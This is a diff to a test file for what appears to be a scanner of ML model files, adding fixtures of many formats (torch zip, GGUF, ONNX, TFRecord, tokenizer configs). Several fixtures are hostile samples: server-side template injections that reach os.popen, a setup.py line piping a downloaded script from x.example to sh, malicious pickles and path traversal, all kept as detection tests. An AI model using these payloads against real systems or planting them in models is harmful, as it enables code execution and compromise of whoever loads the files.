@@ -4,7 +4,9 @@
 // A scanner that keeps a view of a pushed chunk sees 0xA5 garbage later and answers differently.
 import fc from 'fast-check';
 import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { deflateSync, gzipSync } from 'node:zlib';
+import { crc32c, maskCrc } from '../../src/scan/formats/crc32c.js';
 import { runContentChecks } from '../../src/checks/content/index.js';
 import { TextCapture } from '../../src/review/capture.js';
 import { createFileScanner, type FileScannerOptions } from '../../src/scan/file-scanner.js';
@@ -82,6 +84,7 @@ function bigSafetensors(tensors: number): Uint8Array {
 }
 
 const tplInjection = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
+const tplSplit = "{{ '}}' ~ ''.__class__.__mro__[1].__subclasses__() }}";
 const lambdaConfig = { class_name: 'Sequential', config: { layers: [{ class_name: 'Lambda', config: { function: { class_name: '__lambda__', config: { code: '4wEAAAAAAAAA' } } } }] } };
 
 function paxTar(): Uint8Array {
@@ -128,9 +131,25 @@ function framedStops(): Uint8Array {
   return cat([0x80, 4], frame(2 + junk.length), 'N.', junk, evil(), written('joblib/mixed.protocol4.joblib'));
 }
 
+/** Files written by the real libraries (or by scripts/fixtures/formats/generate.py) for the format plugins. */
+const lib = (...p: string[]): Uint8Array => new Uint8Array(readFileSync(join('__tests__', 'fixtures', ...p)));
+/** TFRecord framing (tensorflow/core/lib/io/record_writer): length, its masked CRC-32C, data, the data's. */
+function tfrecord(...records: Uint8Array[]): Uint8Array {
+  return cat(...records.flatMap((d) => {
+    const len = new Uint8Array(8);
+    new DataView(len.buffer).setBigUint64(0, BigInt(d.length), true);
+    return [len, u32(maskCrc(crc32c(len))), d, u32(maskCrc(crc32c(d)))];
+  }));
+}
+
 const FIXTURES: [string, string, Uint8Array, { tail?: boolean; analyzers?: boolean }?][] = [
   // small shapes from formats/zip/safetensors/properties suites (all inside the head; must stay equal too)
   ['torch zip', 'pytorch_model.bin', torchZip({ tensors: 4, numel: 100 })],
+  ['torchscript archive, custom op in code/', 'model.pt', buildZip([
+    { name: 'm/data.pkl', data: cat([0x80, 0x02], 'c__torch__\nNet\n', [0x29, 0x81, 0x2e]) }, { name: 'm/constants.pkl', data: cat([0x80, 0x02, 0x29, 0x2e]) },
+    { name: 'm/code/__torch__/net.py', data: enc(`def forward(self, x):\n${'  y = torch.linear(x, x)\n'.repeat(4000)}  return ops.custom_ns.run(x)\n`), method: 8 },
+    { name: 'm/version', data: enc('3\n') }
+  ])],
   ['evil torch zip', 'pytorch_model.bin', torchZip({ dataPkl: evil() })],
   ['npz deflated', 'arrays.npz', buildZip([{ name: 'w.npy', data: npy('<f4', [3, 4], floatData(12)), method: 8 }, { name: 'b.npy', data: npy('<i8', [2], new Uint8Array(16)), method: 8 }])],
   ['npy', 'w.npy', npy('<f4', [4], floatData(4))],
@@ -143,6 +162,8 @@ const FIXTURES: [string, string, Uint8Array, { tail?: boolean; analyzers?: boole
   ['joblib ZF', 'model.pkl', cat(`ZF${`0x${evil().length.toString(16)}`.padEnd(19, ' ')} `, new Uint8Array(deflateSync(evil())))],
   ['pickle', 'model.pkl', evil()],
   ['tokenizer config', 'tokenizer_config.json', enc(JSON.stringify({ chat_template: tplInjection }))],
+  ['tokenizer config, dict form, Python-only JSON (NaN)', 'tokenizer_config.json', enc(`{"n": NaN, "chat_template": {"default": "{{ messages }}", "rag": ${JSON.stringify(tplSplit)}}}`)],
+  ['gguf, named template split by }} in a string', 'm.gguf', gguf([['tokenizer.chat_template', 'str', '{{ messages }}'], ['tokenizer.chat_template.tool_use', 'str', tplSplit]])],
   ['h5 lambda', 'model.h5', cat([0x89], 'HDF\r\n\x1a\n', new Uint8Array(3000), 'model_config\0', enc(JSON.stringify(lambdaConfig)), new Uint8Array(500))],
   ['keras zip', 'model.keras', buildZip([{ name: 'metadata.json', data: enc('{}'), method: 8 }, { name: 'config.json', data: enc(JSON.stringify(lambdaConfig)), method: 8 }])],
   ['zip no tail', 'pytorch_model.bin', buildZip([{ name: 'archive/data.pkl', data: evil() }]), { tail: false }],
@@ -198,11 +219,26 @@ const FIXTURES: [string, string, Uint8Array, { tail?: boolean; analyzers?: boole
     ['tokenizer.chat_template', 'str', tplInjection]
   ], 3)],
   ['h5: Lambda config after 100 KB', 'model.h5', cat([0x89], 'HDF\r\n\x1a\n', noise(100_000, 14).map((b) => (b === 0x7b ? 0 : b)), [0], enc(JSON.stringify(lambdaConfig)), new Uint8Array(300))],
+  ['json > 64 KiB, escaped key, template built from pieces', 'tokenizer_config.json', enc(`{"added_tokens": ${JSON.stringify(Array.from({ length: 4000 }, (_v, i) => ({ id: i, content: `<t${i}>` })))}, "chat\\u005ftemplate": ${JSON.stringify("{% set a = '__glo' %}{{ lipsum|attr(a ~ 'bals__') }}")}}`)],
   ['json > 64 KiB with a template injection', 'tokenizer_config.json', enc(JSON.stringify({ added_tokens: Array.from({ length: 4000 }, (_v, i) => ({ id: i, content: `<t${i}>` })), chat_template: tplInjection }))],
   ['python > 64 KiB, analyzers on', 'setup.py', cat(enc(`# ${'x'.repeat(70_000)}\n`), enc('import os\nos.system("curl https://x.example/i.sh | sh")\n')), { analyzers: true }],
   ['ELF', 'tokenizer.model', cat([0x7f], 'ELF', [2, 1, 1, 0], new Uint8Array(8), u16(2), u16(0x3e), noise(100_000, 15))],
   ['unknown binary', 'weights.dat', cat([0xfe, 0], noise(100_000, 16))],
-  ['raw latin', 'notes.txt', latin('plain text\n'.repeat(8000))]
+  ['raw latin', 'notes.txt', latin('plain text\n'.repeat(8000))],
+  // format plugins: small library-written files, and large ones whose judged part comes after the head
+  ['onnx (onnx.save_model, external data)', 'model.onnx', lib('real', 'onnx', 'external', 'model.onnx')],
+  ['tensorboard events', 'events.out.tfevents.1', lib('real', 'tensorboard', 'run2', 'events.out.tfevents.1700000001.fixtures.2.0')],
+  ['xgboost ubj', 'model.ubj', lib('real', 'xgboost', 'model.ubj')],
+  ['xgboost binary', 'model.bin', lib('real', 'xgboost', 'model.bin')],
+  ['fasttext', 'model.bin', lib('real', 'fasttext', 'classifier.bin')],
+  ['word2vec binary', 'vectors.bin', lib('real', 'gensim', 'vectors.bin')],
+  ['matlab v4', 'w.mat', lib('real', 'scipy', 'weights_v4.mat')],
+  ['saved model with ReadFile', 'saved_model.pb', lib('formats', 'tf', 'saved_model_read_file.pb')],
+  ['onnx: 100 KB initializer, then an escaping external-data location', 'model.onnx', lib('formats', 'onnx', 'big-then-traversal.onnx')],
+  ['tflite: 70 KB buffer, Flex EagerPyFunc', 'model.tflite', lib('formats', 'tflite', 'flex_py_func.tflite')],
+  ['flax msgpack: 100 KB array, then more keys', 'flax_model.msgpack', lib('formats', 'msgpack', 'flax_big.msgpack')],
+  ['matlab v5: 110 KB compressed, then a struct', 'weights.mat', lib('formats', 'matlab', 'big_compressed.mat')],
+  ['tfrecord: a 100 KB record, then a bad checksum', 'data.tfrecord', cat(tfrecord(noise(100_000, 17), enc('tail record')).slice(0, -1), [0])]
 ];
 
 describe('a pushed chunk is only valid during push(): scanning from one reused buffer gives the same outcome', () => {
